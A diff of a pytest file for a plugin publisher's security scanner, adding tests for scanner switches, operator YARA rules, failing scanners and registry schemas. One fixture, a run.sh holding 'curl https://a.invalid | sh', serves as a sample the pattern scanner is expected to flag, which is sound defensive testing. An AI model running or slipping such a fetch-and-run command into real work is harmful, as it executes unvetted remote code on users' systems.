@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import io
+import json
 import zipfile
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, ClassVar
 
 import pytest
 
@@ -12,18 +13,26 @@ from packages import zipped
 from plugin_trees import FILES, PRIVATE_KEY, TOKEN, a_tree
 from pluginry.encoding.archive import read_archive
 from pluginry.encoding.documents import decode, encode
+from pluginry.encoding.schema import schema_folder
 from pluginry.errors import ArchiveError
 from pluginry.model.digest import Digest
 from pluginry.model.facts import Facts
 from pluginry.model.finding import Severity
 from pluginry.model.names import ANY_PLATFORM, Platform
+from pluginry.model.registry import ScannerSwitches
 from pluginry.publisher import scan as stage
 from pluginry.publisher.pack import PackedArtifact, pack
 from pluginry.publisher.scan import SCANNERS, ScanResult, facts_of_release, scan
+from pluginry.publisher.scan_setup import ScanSetup
+from pluginry.publisher.scanners.scanner import Scanner
+from pluginry.publisher.source_reading.access_kinds import IN_WORDS
+from scanned_packages import scanned as scanned_files
 
 if TYPE_CHECKING:
-    from collections.abc import Mapping
+    from collections.abc import Iterator, Mapping
     from pathlib import Path
+
+    from pluginry.publisher.scanners.scanner import Noticed, ScannedPackage
 
 NATIVE = b"\x7fELF\x02\x01\x01"
 
@@ -97,17 +106,18 @@ class TestFacts:
             ("scan.native-code", "note", "a"),
             ("scan.install-script", "needs_review", "setup.py"),
         ]
-        assert set(facts.scanners) == {scanner.name for scanner in SCANNERS}
+        assert {*facts.scanners, *facts.not_run} == {scanner.name for scanner in SCANNERS}
+        assert facts.not_run == {"vulnerabilities": "no database of vulnerabilities was given"}
         assert decode(Facts, encode(facts), what="facts") == facts
 
 
 class TestFindings:
     def test_secrets_have_file_and_line_and_need_review(self, packed: PackedArtifact) -> None:
-        result = scanned(packed, {"conf/.env": "", "src/a.py": f"\n\nkey = '{TOKEN}'\n{PRIVATE_KEY}"})
+        result = scanned(packed, {"conf/.env": "", "src/a.txt": f"\n\nkey = '{TOKEN}'\n{PRIVATE_KEY}"})
         assert [(f.rule, f.where.file, f.where.line) for f in result.findings] == [
             ("scan.secret-file", "conf/.env", 0),
-            ("scan.secret", "src/a.py", 3),
-            ("scan.secret", "src/a.py", 4),
+            ("scan.secret", "src/a.txt", 3),
+            ("scan.secret", "src/a.txt", 4),
         ]
         assert {finding.severity for finding in result.findings} == {Severity.NEEDS_REVIEW}
         assert TOKEN not in repr(result)
@@ -168,6 +178,92 @@ class TestFindings:
                 manifest=packed.manifest,
                 digest=packed.blob.sha256,
             )
+
+
+class TestSwitches:
+    FILES: ClassVar[dict[str, str]] = {"setup.py": "", "run.sh": "curl https://a.invalid | sh\n"}
+
+    def verdicts(self, **switches: ScannerSwitches) -> dict[str, Severity]:
+        named = {name.replace("_", "-"): known for name, known in switches.items()}
+        result = scanned_files(self.FILES, setup=ScanSetup(switches=named))
+        return {finding.rule: finding.severity for finding in result.findings}
+
+    def test_nothing_blocks_unless_the_registry_says_so(self) -> None:
+        assert set(self.verdicts().values()) == {Severity.NEEDS_REVIEW}
+
+    def test_what_an_enforced_scanner_finds_blocks_and_others_do_not(self) -> None:
+        assert self.verdicts(patterns=ScannerSwitches(enforced=True)) == {
+            "scan.install-script": Severity.NEEDS_REVIEW,
+            "scan.suspicious-pattern": Severity.BLOCKS,
+        }
+
+    def test_notes_of_an_enforced_scanner_stay_notes(self) -> None:
+        setup = ScanSetup(switches={"inventory": ScannerSwitches(enforced=True)})
+        (found,) = scanned_files({"a.so": NATIVE}, setup=setup).findings
+        assert found.severity is Severity.NOTE
+
+    def test_a_scanner_that_is_switched_off_does_not_run_and_the_facts_say_so(self) -> None:
+        setup = ScanSetup(switches={"patterns": ScannerSwitches(enabled=False)})
+        result = scanned_files(self.FILES, setup=setup)
+        assert {finding.rule for finding in result.findings} == {"scan.install-script"}
+        assert result.not_run["patterns"] == "it is switched off"
+        assert "patterns" not in result.scanners
+
+    def test_a_required_scanner_that_cannot_run_blocks(self) -> None:
+        (found,) = scanned_files(
+            {}, setup=ScanSetup(switches={"vulnerabilities": ScannerSwitches(required=True)})
+        ).findings
+        assert (found.rule, found.severity) == ("scan.scanner-missing", Severity.BLOCKS)
+        assert "no database of vulnerabilities was given" in found.message
+
+    def test_rules_of_the_operator_that_cannot_be_read_keep_the_scanner_from_running(self, tmp_path: Path) -> None:
+        (tmp_path / "own.yar").write_text("rule {", encoding="utf-8")
+        assert (
+            "these YARA rules cannot be read" in scanned_files({}, setup=ScanSetup(rules=tmp_path)).not_run["patterns"]
+        )
+
+    def test_rules_of_the_operator_are_looked_with_and_their_digest_is_told(self, tmp_path: Path) -> None:
+        rule = 'rule own { meta: description = "ours" strings: $a = "needle" condition: $a }'
+        (tmp_path / "own.yar").write_text(rule, encoding="utf-8")
+        result = scanned_files({"a.txt": "hay\nneedle\n"}, setup=ScanSetup(rules=tmp_path))
+        assert [(f.rule, f.severity, f.where.line, f.message) for f in result.findings] == [
+            ("scan.notable-pattern", Severity.NOTE, 2, "own: ours")
+        ]
+        assert result.scanners["patterns"].startswith("1+")
+
+    @pytest.mark.parametrize(
+        ("switches", "severity"),
+        [
+            (ScannerSwitches(), Severity.NEEDS_REVIEW),
+            (ScannerSwitches(enforced=True), Severity.BLOCKS),
+            (ScannerSwitches(required=True), Severity.BLOCKS),
+        ],
+    )
+    def test_a_scanner_that_breaks_is_a_finding_and_the_others_go_on(
+        self, monkeypatch: pytest.MonkeyPatch, switches: ScannerSwitches, severity: Severity
+    ) -> None:
+        def breaks(_package: ScannedPackage) -> Iterator[Noticed]:
+            raise ZeroDivisionError
+            yield
+
+        broken = Scanner(name="broken", version="1", rules=(), scan=breaks)
+        monkeypatch.setattr(stage, "SCANNERS", (broken, *SCANNERS))
+        result = scanned_files({"setup.py": ""}, setup=ScanSetup(switches={"broken": switches}))
+        assert [(f.rule, f.severity) for f in result.findings] == [
+            ("scan.scanner-failed", severity),
+            ("scan.install-script", Severity.NEEDS_REVIEW),
+        ]
+        assert result.not_run["broken"] == "it broke off (ZeroDivisionError)"
+
+    def test_the_registry_can_name_every_scanner_and_no_other(self) -> None:
+        schema = json.loads((schema_folder() / "registry.schema.json").read_bytes())
+        names = schema["properties"]["scanning"]["propertyNames"]["enum"]
+        assert sorted(names) == sorted(scanner.name for scanner in SCANNERS)
+
+    def test_the_schema_of_hosts_knows_every_kind_of_access(self) -> None:
+        schema = json.loads((schema_folder() / "host.schema.json").read_bytes())
+        permission = schema["properties"]["permissions"]["items"]["properties"]
+        assert sorted(permission["covers"]["items"]["enum"]) == sorted(IN_WORDS)
 
 
 def test_every_rule_says_what_why_and_how() -> None:
